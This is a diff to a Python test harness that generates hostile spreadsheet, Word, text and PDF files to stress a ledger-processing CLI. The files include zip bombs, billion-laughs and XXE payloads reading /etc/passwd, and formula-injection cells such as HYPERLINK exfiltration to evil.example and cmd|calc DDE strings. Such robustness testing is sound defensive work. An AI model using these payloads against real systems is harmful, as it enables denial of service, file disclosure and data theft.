@@ -12,7 +12,6 @@ from __future__ import annotations
 
 import io
 import os
-import resource
 import struct
 import subprocess
 import sys
@@ -86,7 +85,18 @@ def write_raw_zip(path: Path, entries: list[tuple[str, bytes, int, int, int]]) -
         flags = 0x800 if not name.isascii() else 0
         out.write(
             struct.pack(
-                "<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0x21, crc, len(data), size, len(raw), 0
+                "<IHHHHHIIIHH",
+                0x04034B50,
+                20,
+                flags,
+                method,
+                0,
+                0x21,
+                crc,
+                len(data),
+                size,
+                len(raw),
+                0,
             )
         )
         out.write(raw)
@@ -131,7 +141,9 @@ def replace_with_bomb(path: Path, member: str, head: bytes, piece: bytes, times:
             stream, size, crc = bomb_stream(head, piece, times, tail)
             entries.append((member, stream, 8, crc, size))
         else:
-            entries.append((info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data)))
+            entries.append(
+                (info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data))
+            )
     write_raw_zip(path, entries)
 
 
@@ -140,7 +152,6 @@ def base_ledger(path: Path, n: int = 3, **kw) -> Path:
     import datetime as dt
 
     import xlsxwriter
-
     from conftest import STANDARD_HEADER
 
     wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_numbers": False})
@@ -185,7 +196,10 @@ def sheet_rel(path: Path, kind: str, target: str) -> None:
         f'2006/relationships/{kind}" Target="{target}"/>'
     )
     if rels in names:
-        rewrite(path, {rels: lambda x: x.replace(b"</Relationships>", rel.encode() + b"</Relationships>")})
+        rewrite(
+            path,
+            {rels: lambda x: x.replace(b"</Relationships>", rel.encode() + b"</Relationships>")},
+        )
     else:
         xml = (
             '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
@@ -224,15 +238,29 @@ def _part_bomb(member: str, head: bytes, piece: bytes, tail: bytes, gb: float = 
     return fn
 
 
-_SST_HEAD = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+_SST_HEAD = (
+    b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+)
 for _name, _member, _head, _piece, _tail in [
     ("bomb-styles", "xl/styles.xml", b"<styleSheet>", b" ", b"</styleSheet>"),
     ("bomb-content-types", "[Content_Types].xml", b"<Types>", b" ", b"</Types>"),
     ("bomb-docprops", "docProps/app.xml", b"<Properties>", b" ", b"</Properties>"),
     ("bomb-calcchain", "xl/calcChain.xml", b"<calcChain>", b'<c r="A1" i="1"/>', b"</calcChain>"),
     ("bomb-workbook-xml", "xl/workbook.xml", b"<workbook>", b" ", b"</workbook>"),
-    ("bomb-workbook-rels", "xl/_rels/workbook.xml.rels", b"<Relationships>", b" ", b"</Relationships>"),
-    ("bomb-sheet-rels", "xl/worksheets/_rels/sheet1.xml.rels", b"<Relationships>", b" ", b"</Relationships>"),
+    (
+        "bomb-workbook-rels",
+        "xl/_rels/workbook.xml.rels",
+        b"<Relationships>",
+        b" ",
+        b"</Relationships>",
+    ),
+    (
+        "bomb-sheet-rels",
+        "xl/worksheets/_rels/sheet1.xml.rels",
+        b"<Relationships>",
+        b" ",
+        b"</Relationships>",
+    ),
     ("bomb-theme", "xl/theme/theme1.xml", b"<a:theme>", b" ", b"</a:theme>"),
 ]:
     builder(_name)(_part_bomb(_member, _head, _piece, _tail))
@@ -244,7 +272,12 @@ def _sst_15mb_each(path: Path) -> None:
     referenced by every cell of a 13-column ledger (the grid is fine, the text is 15 MB)."""
     base_ledger(path)
     replace_with_bomb(
-        path, "xl/sharedStrings.xml", _SST_HEAD, b"<si><t>" + b"a" * 1000 + b"</t></si>", 15_000, b"</sst>"
+        path,
+        "xl/sharedStrings.xml",
+        _SST_HEAD,
+        b"<si><t>" + b"a" * 1000 + b"</t></si>",
+        15_000,
+        b"</sst>",
     )
 
 
@@ -252,8 +285,20 @@ def _sst_15mb_each(path: Path) -> None:
 def _comments_bomb(path: Path) -> None:
     base_ledger(path)
     sheet_rel(path, "comments", "../comments1.xml")
-    add_part(path, "xl/comments1.xml", b"x", "application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml")
-    replace_with_bomb(path, "xl/comments1.xml", b"<comments><commentList>", b" ", 900 << 20, b"</commentList></comments>")
+    add_part(
+        path,
+        "xl/comments1.xml",
+        b"x",
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml",
+    )
+    replace_with_bomb(
+        path,
+        "xl/comments1.xml",
+        b"<comments><commentList>",
+        b" ",
+        900 << 20,
+        b"</commentList></comments>",
+    )
 
 
 @builder("bomb-vml")
@@ -278,12 +323,13 @@ def _comments_many(path: Path) -> None:
     base_ledger(path)
     sheet_rel(path, "comments", "../comments1.xml")
     body = b"".join(
-        b'<comment ref="A%d" authorId="0"><text><t>x</t></text></comment>' % (i + 1) for i in range(300_000)
+        b'<comment ref="A%d" authorId="0"><text><t>x</t></text></comment>' % (i + 1)
+        for i in range(300_000)
     )
     add_part(
         path,
         "xl/comments1.xml",
-        b"<comments xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><authors><author>a</author></authors><commentList>"
+        b'<comments xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><authors><author>a</author></authors><commentList>'
         + body
         + b"</commentList></comments>",
         "application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml",
@@ -304,7 +350,9 @@ def _many_small_bombs(path: Path) -> None:
     base_ledger(path)
     entries = []
     for info, data in members(path):
-        entries.append((info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data)))
+        entries.append(
+            (info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data))
+        )
     stream, size, crc = bomb_stream(b"", b" ", 15 << 20, b"")
     for i in range(400):
         entries.append((f"xl/media/junk{i}.xml", stream, 8, crc, size))
@@ -319,14 +367,19 @@ def _duplicate_member(path: Path) -> None:
     items = members(path)
     entries = []
     for info, data in items:
-        entries.append((info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data)))
+        entries.append(
+            (info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data))
+        )
     sheet = dict((i.filename, d) for i, d in items)[LEDGER_PART]
     head, rest = sheet.split(b"</sheetData>")
     rows = b"".join(
-        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (r, r) for r in range(100, 101)
+        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (r, r)
+        for r in range(100, 101)
     )
     stream, size, crc = bomb_stream(head, rows, 1, b" " * 0 + b"</sheetData>" + rest)
-    big, bsize, bcrc = bomb_stream(head.replace(b"<sheetData>", b"<sheetData>"), b" ", 3 << 30, b"</sheetData>" + rest)
+    big, bsize, bcrc = bomb_stream(
+        head.replace(b"<sheetData>", b"<sheetData>"), b" ", 3 << 30, b"</sheetData>" + rest
+    )
     entries.insert(0, (LEDGER_PART, big, 8, bcrc, bsize))
     write_raw_zip(path, entries)
 
@@ -335,7 +388,9 @@ def _duplicate_member(path: Path) -> None:
 def _lies_small(path: Path) -> None:
     """The central directory says the sheet is small; the local header and data are a bomb."""
     base_ledger(path)
-    replace_with_bomb(path, LEDGER_PART, b"<worksheet><sheetData>", b" ", 3 << 30, b"</sheetData></worksheet>")
+    replace_with_bomb(
+        path, LEDGER_PART, b"<worksheet><sheetData>", b" ", 3 << 30, b"</sheetData></worksheet>"
+    )
     data = bytearray(path.read_bytes())
     eocd = data.rfind(b"PK\x05\x06")
     pos = struct.unpack_from("<I", data, eocd + 16)[0]
@@ -364,9 +419,10 @@ def _deep_workbook(path: Path) -> None:
 _LAUGHS = (
     b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">'
     + b"".join(
-        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
+        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
+        for i in range(1, 10)
     )
-    + b']>'
+    + b"]>"
 )
 
 
@@ -399,7 +455,11 @@ def _xxe(path: Path) -> None:
     doctype = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
     rewrite(
         path,
-        {"xl/sharedStrings.xml": lambda x: doctype + x.split(b"?>", 1)[1].replace(b"<t>", b"<t>&e;", 1)},
+        {
+            "xl/sharedStrings.xml": lambda x: (
+                doctype + x.split(b"?>", 1)[1].replace(b"<t>", b"<t>&e;", 1)
+            )
+        },
     )
 
 
@@ -416,7 +476,9 @@ def _huge_sst(path: Path) -> None:
     for info, data in members(path):
         if info.filename == "xl/sharedStrings.xml":
             data = data.replace(b"<t>\xe9\x97\xae\xe9\xa2\x981</t>", b"<t>" + big + b"</t>", 1)
-        entries.append((info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data)))
+        entries.append(
+            (info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data))
+        )
     write_raw_zip(path, entries)
 
 
@@ -475,7 +537,14 @@ def _merges_overlap_small(path: Path) -> None:
 def _links(path: Path) -> None:
     base_ledger(path)
     links = b"".join(b'<hyperlink ref="A%d" location="A1"/>' % r for r in range(1, 1_000_001))
-    rewrite(path, {LEDGER_PART: lambda x: x.replace(b"</sheetData>", b"</sheetData><hyperlinks>" + links + b"</hyperlinks>", 1)})
+    rewrite(
+        path,
+        {
+            LEDGER_PART: lambda x: x.replace(
+                b"</sheetData>", b"</sheetData><hyperlinks>" + links + b"</hyperlinks>", 1
+            )
+        },
+    )
 
 
 @builder("condformat-million")
@@ -501,7 +570,16 @@ def _rename_sheet(new: str) -> Callable[[Path], None]:
         base_ledger(path)
         from xml.sax.saxutils import quoteattr
 
-        rewrite(path, {"xl/workbook.xml": lambda x: x.replace(b'name="\xe6\x95\xb4\xe6\x94\xb9\xe5\x8f\xb0\xe8\xb4\xa6"', b"name=" + quoteattr(new).encode(), 1)})
+        rewrite(
+            path,
+            {
+                "xl/workbook.xml": lambda x: x.replace(
+                    b'name="\xe6\x95\xb4\xe6\x94\xb9\xe5\x8f\xb0\xe8\xb4\xa6"',
+                    b"name=" + quoteattr(new).encode(),
+                    1,
+                )
+            },
+        )
 
     return fn
 
@@ -514,11 +592,15 @@ builder("sheet-name-specials")(_rename_sheet("整改/\\?*[]:'台账"))
 @builder("formula-injection-cells")
 def _injection(path: Path) -> None:
     rows = [
-        good_row(1, 整改措施='=HYPERLINK("http://evil.example/?x="&A1,"点我")', 责任人="+cmd|' /C calc'!A0"),
+        good_row(
+            1,
+            整改措施='=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+            责任人="+cmd|' /C calc'!A0",
+        ),
         good_row(2, 整改措施="@SUM(1+1)*cmd|' /C calc'!A0", 责任部门="-2+3+cmd|' /C calc'!A0"),
-        good_row(3, 问题="=1+1", 整改措施="\t=1+1", 佐证材料="=WEBSERVICE(\"http://x\")"),
+        good_row(3, 问题="=1+1", 整改措施="\t=1+1", 佐证材料='=WEBSERVICE("http://x")'),
     ]
-    write_ledger(path, rows, info={**INFO, "单位名称": "=HYPERLINK(\"http://evil\",\"单位\")"})
+    write_ledger(path, rows, info={**INFO, "单位名称": '=HYPERLINK("http://evil","单位")'})
 
 
 @builder("live-formulas")
@@ -557,7 +639,11 @@ def _control_info(path: Path) -> None:
     base_ledger(path)
     rewrite(
         path,
-        {"xl/sharedStrings.xml": lambda x: x.replace("某区测试局".encode(), "某区_x0008_测试\u202e局_x0000_".encode())},
+        {
+            "xl/sharedStrings.xml": lambda x: x.replace(
+                "某区测试局".encode(), "某区_x0008_测试\u202e局_x0000_".encode()
+            )
+        },
     )
 
 
@@ -565,7 +651,12 @@ def _control_info(path: Path) -> None:
 def _xlsm(path: Path) -> Path:
     p = path.with_suffix(".xlsm")
     base_ledger(p)
-    add_part(p, "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 2000, "application/vnd.ms-office.vbaProject")
+    add_part(
+        p,
+        "xl/vbaProject.bin",
+        b"\xd0\xcf\x11\xe0" + b"\0" * 2000,
+        "application/vnd.ms-office.vbaProject",
+    )
     return p
 
 
@@ -676,7 +767,14 @@ def _xls_bytes(*, huge_sst: bool, bogus: bool = False, dims: bool = False) -> by
     count = 0x7FFFFFFF if huge_sst else len(strings)
     sst = _biff(0x00FC, struct.pack("<II", count, count) + sst_body)
     sheet_name = "整改台账"
-    boundsheet_data = lambda off: struct.pack("<IBB", off, 0, 0) + struct.pack("<BB", len(sheet_name), 1) + sheet_name.encode("utf-16-le")  # noqa: E731
+
+    def boundsheet_data(off):
+        return (
+            struct.pack("<IBB", off, 0, 0)
+            + struct.pack("<BB", len(sheet_name), 1)
+            + sheet_name.encode("utf-16-le")
+        )  # noqa: E731
+
     globals_ = bof(0x0005) + _biff(0x0042, struct.pack("<H", 1200))
     bs_len = len(_biff(0x0085, boundsheet_data(0)))
     eof = _biff(0x000A, b"")
@@ -707,7 +805,7 @@ def _cfb(streams: dict[str, bytes]) -> bytes:
     fat_start = dir_start + n_dir
     n_fat = 1
     fat = [0xFFFFFFFF] * (sector // 4)
-    for name, start, size in entries:
+    for _name, start, size in entries:
         count = (size + sector - 1) // sector
         for k in range(count):
             fat[start + k] = start + k + 1 if k < count - 1 else 0xFFFFFFFE
@@ -767,7 +865,12 @@ def base_docx(path: Path, paragraphs: list[str] | None = None) -> Path:
     import docx
 
     d = docx.Document()
-    for text in paragraphs or ["关于落实巡察反馈意见的整改方案", "一、加强理论学习方面", "（一）学习不深入。", "1.制定学习计划。"]:
+    for text in paragraphs or [
+        "关于落实巡察反馈意见的整改方案",
+        "一、加强理论学习方面",
+        "（一）学习不深入。",
+        "1.制定学习计划。",
+    ]:
         d.add_paragraph(text)
     d.save(str(path))
     return path
@@ -788,7 +891,9 @@ def _docx_bomb(path: Path) -> None:
             stream, size, crc = bomb_stream(head + b"<w:body>", b" ", 3 << 30, tail)
             entries.append((_DOC, stream, 8, crc, size))
         else:
-            entries.append((info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data)))
+            entries.append(
+                (info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data))
+            )
     write_raw_zip(path, entries)
 
 
@@ -802,17 +907,24 @@ def _docx_bomb_paras(path: Path) -> None:
     entries = []
     for info, data in items:
         if info.filename == _DOC:
-            stream, size, crc = bomb_stream(head + b"<w:body>", b"<w:p><w:r><w:t>1.x</w:t></w:r></w:p>", (300 << 20) // 36, tail)
+            stream, size, crc = bomb_stream(
+                head + b"<w:body>", b"<w:p><w:r><w:t>1.x</w:t></w:r></w:p>", (300 << 20) // 36, tail
+            )
             entries.append((_DOC, stream, 8, crc, size))
         else:
-            entries.append((info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data)))
+            entries.append(
+                (info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data))
+            )
     write_raw_zip(path, entries)
 
 
 @doc_builder("docx-million-paragraphs")
 def _docx_million(path: Path) -> None:
     base_docx(path)
-    paras = b"".join(b"<w:p><w:r><w:t>%d.\xe6\x8e\xaa\xe6\x96\xbd%d</w:t></w:r></w:p>" % (i % 9 + 1, i) for i in range(1_000_000))
+    paras = b"".join(
+        b"<w:p><w:r><w:t>%d.\xe6\x8e\xaa\xe6\x96\xbd%d</w:t></w:r></w:p>" % (i % 9 + 1, i)
+        for i in range(1_000_000)
+    )
     rewrite(path, {_DOC: lambda x: x.replace(b"<w:sectPr", paras + b"<w:sectPr", 1)})
 
 
@@ -820,7 +932,11 @@ def _docx_million(path: Path) -> None:
 def _docx_nested(path: Path) -> None:
     base_docx(path)
     depth = 5000
-    nest = b"<w:tbl><w:tr><w:tc>" * depth + b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" + b"</w:tc></w:tr></w:tbl>" * depth
+    nest = (
+        b"<w:tbl><w:tr><w:tc>" * depth
+        + b"<w:p><w:r><w:t>x</w:t></w:r></w:p>"
+        + b"</w:tc></w:tr></w:tbl>" * depth
+    )
     rewrite(path, {_DOC: lambda x: x.replace(b"<w:sectPr", nest + b"<w:p/><w:sectPr", 1)})
 
 
@@ -828,7 +944,11 @@ def _docx_nested(path: Path) -> None:
 def _docx_sdt(path: Path) -> None:
     base_docx(path)
     depth = 5000
-    nest = b"<w:sdt><w:sdtContent>" * depth + b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" + b"</w:sdtContent></w:sdt>" * depth
+    nest = (
+        b"<w:sdt><w:sdtContent>" * depth
+        + b"<w:p><w:r><w:t>x</w:t></w:r></w:p>"
+        + b"</w:sdtContent></w:sdt>" * depth
+    )
     rewrite(path, {_DOC: lambda x: x.replace(b"<w:sectPr", nest + b"<w:sectPr", 1)})
 
 
@@ -877,14 +997,18 @@ def _docx_numbering(path: Path) -> None:
 @doc_builder("docx-laughs")
 def _docx_laughs(path: Path) -> None:
     base_docx(path)
-    rewrite(path, {_DOC: lambda x: _LAUGHS + x.split(b"?>", 1)[1].replace(b"<w:t>", b"<w:t>&lol9;", 1)})
+    rewrite(
+        path, {_DOC: lambda x: _LAUGHS + x.split(b"?>", 1)[1].replace(b"<w:t>", b"<w:t>&lol9;", 1)}
+    )
 
 
 @doc_builder("docx-xxe")
 def _docx_xxe(path: Path) -> None:
     base_docx(path)
     doctype = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
-    rewrite(path, {_DOC: lambda x: doctype + x.split(b"?>", 1)[1].replace(b"<w:t>", b"<w:t>&e;", 1)})
+    rewrite(
+        path, {_DOC: lambda x: doctype + x.split(b"?>", 1)[1].replace(b"<w:t>", b"<w:t>&e;", 1)}
+    )
 
 
 @doc_builder("docx-formula-injection")
@@ -893,7 +1017,7 @@ def _docx_injection(path: Path) -> None:
         path,
         [
             "关于落实巡察反馈意见的整改方案",
-            "一、=HYPERLINK(\"http://evil\",\"方面\")",
+            '一、=HYPERLINK("http://evil","方面")',
             "（一）+cmd|' /C calc'!A0问题。",
             "1.@SUM(1+1)措施。",
             "2.=1+1",
@@ -908,7 +1032,9 @@ def _docx_image(path: Path) -> None:
     stream, size, crc = bomb_stream(b"\x89PNG\r\n\x1a\n", b"\0", 3 << 30, b"")
     entries = []
     for info, data in members(path):
-        entries.append((info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data)))
+        entries.append(
+            (info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data))
+        )
     entries.append(("word/media/image1.png", stream, 8, crc, size))
     write_raw_zip(path, entries)
 
@@ -923,7 +1049,9 @@ def _docx_bomb_styles(path: Path) -> None:
             stream, size, crc = bomb_stream(head, b" ", 3 << 30, b"</w:styles>" + tail)
             entries.append((info.filename, stream, 8, crc, size))
         else:
-            entries.append((info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data)))
+            entries.append(
+                (info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data))
+            )
     write_raw_zip(path, entries)
 
 
@@ -947,7 +1075,9 @@ def _txt_long(path: Path) -> None:
 @doc_builder("txt-many-items", ".txt")
 def _txt_items(path: Path) -> None:
     body = "".join(f"{i % 9 + 1}.措施{i}。\n" for i in range(300_000))
-    path.write_text("关于落实反馈意见的整改方案\n一、理论学习方面\n（一）学习不够。\n" + body, encoding="utf-8")
+    path.write_text(
+        "关于落实反馈意见的整改方案\n一、理论学习方面\n（一）学习不够。\n" + body, encoding="utf-8"
+    )
 
 
 @doc_builder("pdf-bomb", ".pdf")
@@ -971,9 +1101,13 @@ def _write_pdf(path: Path, content: bytes, pages: int = 1) -> None:
     kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(pages))
     objs.append(b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages)
     objs.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
-    objs.append(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream")
+    objs.append(
+        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream"
+    )
     for _ in range(pages):
-        objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>")
+        objs.append(
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>"
+        )
     out = io.BytesIO()
     out.write(b"%PDF-1.4\n")
     offsets = []
@@ -984,7 +1118,9 @@ def _write_pdf(path: Path, content: bytes, pages: int = 1) -> None:
     out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
     for off in offsets:
         out.write(b"%010d 00000 n \n" % off)
-    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref))
+    out.write(
+        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
+    )
     path.write_bytes(out.getvalue())
 
 
@@ -1011,7 +1147,16 @@ def run_limited(args: list[str], timeout: float = 60, cwd: Path | None = None) -
         )
         start = time.perf_counter()
         proc = subprocess.Popen(
-            [sys.executable, "-c", wrapper, str(peak_file), sys.executable, "-m", "ledger_tools", *args],
+            [
+                sys.executable,
+                "-c",
+                wrapper,
+                str(peak_file),
+                sys.executable,
+                "-m",
+                "ledger_tools",
+                *args,
+            ],
             stdout=subprocess.PIPE,
             stderr=subprocess.STDOUT,
             stdin=subprocess.DEVNULL,
@@ -1060,15 +1205,60 @@ def _first_error(text: str) -> str:
 
 LEDGER_COMMANDS: list[tuple[str, Callable[[Path, Path], list[str]]]] = [
     ("check", lambda f, o: ["check", str(f), "--today", "2024-05-10"]),
-    ("check-mark", lambda f, o: ["check", str(f), "--today", "2024-05-10", "--mark", str(o / "m.xlsx")]),
+    (
+        "check-mark",
+        lambda f, o: ["check", str(f), "--today", "2024-05-10", "--mark", str(o / "m.xlsx")],
+    ),
     ("check-json", lambda f, o: ["check", str(f), "--today", "2024-05-10", "--format", "json"]),
     ("stats", lambda f, o: ["stats", str(f), "--today", "2024-05-10"]),
-    ("plan", lambda f, o: ["plan", str(f), "--as-of", "2024-05-10", "--force", "-o", str(o / "p.docx")]),
-    ("report", lambda f, o: ["report", str(f), "--as-of", "2024-05-10", "--force", "-o", str(o / "r.docx")]),
-    ("notice", lambda f, o: ["report", str(f), "--kind", "notice", "--as-of", "2024-05-10", "--force", "-o", str(o / "n.docx")]),
-    ("diff", lambda f, o: ["diff", str(f), str(f), "--today", "2024-05-10", "--mark", str(o / "d.xlsx")]),
+    (
+        "plan",
+        lambda f, o: ["plan", str(f), "--as-of", "2024-05-10", "--force", "-o", str(o / "p.docx")],
+    ),
+    (
+        "report",
+        lambda f, o: [
+            "report",
+            str(f),
+            "--as-of",
+            "2024-05-10",
+            "--force",
+            "-o",
+            str(o / "r.docx"),
+        ],
+    ),
+    (
+        "notice",
+        lambda f, o: [
+            "report",
+            str(f),
+            "--kind",
+            "notice",
+            "--as-of",
+            "2024-05-10",
+            "--force",
+            "-o",
+            str(o / "n.docx"),
+        ],
+    ),
+    (
+        "diff",
+        lambda f, o: ["diff", str(f), str(f), "--today", "2024-05-10", "--mark", str(o / "d.xlsx")],
+    ),
     ("duban", lambda f, o: ["duban", str(f), "--today", "2024-05-10", "-o", str(o / "duban")]),
-    ("merge", lambda f, o: ["merge", str(f), "-o", str(o / "merged.xlsx"), "--today", "2024-05-10", "--jobs", "1"]),
+    (
+        "merge",
+        lambda f, o: [
+            "merge",
+            str(f),
+            "-o",
+            str(o / "merged.xlsx"),
+            "--today",
+            "2024-05-10",
+            "--jobs",
+            "1",
+        ],
+    ),
 ]
 
 
@@ -1078,7 +1268,9 @@ def run_one(path: Path, out: Path, commands: list[str] | None = None) -> None:
     if path.suffix in (".docx", ".txt", ".pdf"):
         runs = [("import", ["import", str(path), "-o", str(out / "imported.xlsx"), "--force"])]
     else:
-        runs = [(c, make(path, out)) for c, make in LEDGER_COMMANDS if not commands or c in commands]
+        runs = [
+            (c, make(path, out)) for c, make in LEDGER_COMMANDS if not commands or c in commands
+        ]
     for command, args in runs:
         r = run_limited(args)
         print(
@@ -1091,7 +1283,11 @@ def run_one(path: Path, out: Path, commands: list[str] | None = None) -> None:
 def main() -> None:
     if sys.argv[1] == "--file":  # run on files already built
         out = Path(tempfile.mkdtemp(prefix="attack-"))
-        commands = os.environ.get("ATTACK_COMMANDS", "").split(",") if os.environ.get("ATTACK_COMMANDS") else None
+        commands = (
+            os.environ.get("ATTACK_COMMANDS", "").split(",")
+            if os.environ.get("ATTACK_COMMANDS")
+            else None
+        )
         for f in sys.argv[2:]:
             run_one(Path(f), out, commands)
         return
@@ -1112,7 +1308,11 @@ def main() -> None:
         if name in DOC_BUILDERS:
             runs = [("import", ["import", str(path), "-o", str(sub / "imported.xlsx"), "--force"])]
         else:
-            runs = [(c, make(path, sub)) for c, make in LEDGER_COMMANDS if commands is None or c in commands]
+            runs = [
+                (c, make(path, sub))
+                for c, make in LEDGER_COMMANDS
+                if commands is None or c in commands
+            ]
         for command, args in runs:
             r = run_limited(args)
             print(
